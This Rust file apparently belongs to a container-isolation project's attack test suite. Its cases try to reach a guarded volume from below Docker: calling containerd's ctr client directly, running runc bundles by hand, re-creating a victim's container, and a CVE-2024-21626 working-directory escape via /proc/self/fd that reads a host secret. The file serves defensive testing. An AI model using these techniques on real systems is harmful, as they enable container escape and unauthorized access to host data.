//! Below Docker: containerd's own client, and the runtime called by hand.

use super::{
    case::{Attack, Attacker::Below},
    evidence::Evidence,
    ground::{Ground, HOST_FILE, HOST_SECRET, IMAGE},
};
use crate::{Outcome, Ran, command::finish, scratch::cgroup};
use serde_json::json;
use std::{fs, path::PathBuf};

/// Where Docker's containerd listens.
const CONTAINERD: &str = "/run/docker/containerd/containerd.sock";

/// Where the shims keep the bundles of Docker's containers.
const BUNDLES: &str = "/run/docker/containerd/daemon/io.containerd.runtime.v2.task/moby";

pub(super) const ATTACKS: &[Attack] = &[
    Attack::new(
        "below::containerds_own_client",
        Below,
        "has containerd start a container with the volume's place in it",
        "that is the placeholder",
        containerds_own_client,
    ),
    Attack::new(
        "below::exec_by_containerds_own_client",
        Below,
        "has containerd start a process in the victim's container",
        "exec is judged below containerd as well",
        exec_by_containerds_own_client,
    )
    .told(&[]),
    Attack::new(
        "below::runc_by_hand",
        Below,
        "runs a bundle of his own by runc, with the volume's place in it",
        "that is the placeholder",
        |ground| by_hand(ground, "runc"),
    ),
    Attack::new(
        "below::the_runtime_by_hand",
        Below,
        "runs that bundle by the runtime of the volume's containers",
        "no engine made it, so it cannot be measured",
        |ground| {
            let program = if ground.guarded() {
                "cofferdam-runtime"
            } else {
                "runc"
            };
            by_hand(ground, program)
        },
    )
    .told(&[]),
    Attack::new(
        "below::the_same_container_twice",
        Below,
        "creates the victim's container again, by its own bundle and id",
        "one container holds the volume",
        |ground| again(ground, None),
    )
    .told(&[]),
    Attack::new(
        "below::the_same_bundle_under_another_id",
        Below,
        "creates it again under an id of his own",
        "the id is not that of the bundle's container",
        |ground| again(ground, Some("again")),
    )
    .told(&[]),
    Attack::new(
        "below::descriptors_left_open",
        Below,
        "has the victim's image list the descriptors that it was started with",
        "it has three",
        descriptors_left_open,
    )
    .without_control("the runtime below is the same one"),
    Attack::new(
        "below::a_working_directory_that_is_a_descriptor",
        Below,
        "starts where a descriptor of the runtime's leads out of the container (CVE-2024-21626)",
        "no descriptor of the host's is open",
        a_working_directory_that_is_a_descriptor,
    )
    .without_control("the distribution's runc is mended"),
];

fn containerds_own_client(ground: &mut Ground) -> Outcome<Evidence> {
    ground.held()?;
    let mount = format!(
        "type=bind,src={},dst=/data,options=rbind:ro",
        ground.mountpoint()?
    );
    let root = ground.scene.host.scratch().join("images/tiny-1");
    let group = format!("/{}/by-hand", cgroup(ground.scene.host.scratch()));
    let line = [
        "--address",
        CONTAINERD,
        "run",
        "--rm",
        "--cgroup",
        &group,
        "--mount",
        &mount,
        "--rootfs",
        &root.to_string_lossy(),
        "by-hand",
        "/bin/cat",
        "/data/marker",
    ];
    let ran = finish(&ground.scene.host.command("ctr", &line))?;
    Ok(ground.read(&ran))
}

fn exec_by_containerds_own_client(ground: &mut Ground) -> Outcome<Evidence> {
    let victim = ground.held()?;
    let line = [
        "--address",
        CONTAINERD,
        "--namespace",
        "moby",
        "tasks",
        "exec",
        "--exec-id",
        "by-hand",
        &victim,
        "/bin/cat",
        "/data/marker",
    ];
    let ran = finish(&ground.scene.host.command("ctr", &line))?;
    Ok(ground.read(&ran))
}

/// A bundle of the attacker's own with the volume's place at `/data`.
fn bundle(ground: &Ground) -> Outcome<PathBuf> {
    let path = ground.place("bundle")?;
    let config = json!({
        "ociVersion": "1.0.2",
        "process": { "args": ["/bin/cat", "/data/marker"], "cwd": "/", "user": { "uid": 0, "gid": 0 } },
        "root": { "path": ground.scene.host.scratch().join("images/tiny-1") },
        "mounts": [
            { "destination": "/proc", "type": "proc", "source": "proc" },
            { "destination": "/data", "type": "bind", "source": ground.mountpoint()?, "options": ["rbind"] },
        ],
        "linux": { "namespaces": [{ "type": "pid" }, { "type": "mount" }] },
    });
    fs::write(path.join("config.json"), serde_json::to_vec(&config)?)?;
    Ok(path)
}

/// Runs a runtime by hand, with a state directory of the attacker's.
fn runtime(ground: &Ground, program: &str, words: &[&str]) -> Outcome<Ran> {
    let root = ground.place("runtime")?;
    let root = root.to_string_lossy();
    let line = [&["--root", &root], words].concat();
    finish(&ground.scene.host.command(program, &line))
}

fn by_hand(ground: &mut Ground, program: &str) -> Outcome<Evidence> {
    ground.held()?;
    let bundle = bundle(ground)?;
    let ran = runtime(
        ground,
        program,
        &["run", "--bundle", &bundle.to_string_lossy(), "by-hand"],
    )?;
    Ok(ground.read(&ran))
}

/// Creates what the victim's bundle says once more.
fn again(ground: &mut Ground, id: Option<&str>) -> Outcome<Evidence> {
    let victim = ground.held()?;
    let program = if ground.guarded() {
        "cofferdam-runtime"
    } else {
        "runc"
    };
    let bundle = format!("{BUNDLES}/{victim}");
    let id = id.unwrap_or(&victim);
    let ran = runtime(ground, program, &["create", "--bundle", &bundle, id])?;
    let made = ran.is_ok();
    if made {
        runtime(ground, "runc", &["delete", "--force", id])?;
    }
    Ok(Evidence::when(
        made,
        "a second container was made with the volume",
        ran.said(),
    ))
}

fn descriptors_left_open(ground: &mut Ground) -> Outcome<Evidence> {
    ground.written()?;
    let words = ["/bin/busybox", "ls", "-l", "/proc/self/fd"];
    ground.let_in("descriptors", &[&["--"], &words[..]].concat())?;
    let ran = ground.run(&[], IMAGE, &words)?.ok()?;
    // The fourth is the directory that is being listed.
    let open = ran.out.lines().filter(|line| line.contains(" -> ")).count();
    Ok(Evidence::when(
        open > 4,
        "descriptors of the runtime's are open",
        ran.said(),
    ))
}

fn a_working_directory_that_is_a_descriptor(ground: &mut Ground) -> Outcome<Evidence> {
    let mut evidence = Evidence::default();
    for number in 3..12 {
        let directory = format!("/proc/self/fd/{number}");
        let path = format!("../../../../../../..{HOST_FILE}");
        let ran = ground.run_bare(&["--workdir", &directory], "tiny:1", &["cat", &path])?;
        evidence = evidence.and(Evidence::seen(&ran, HOST_SECRET));
    }
    Ok(evidence)
}
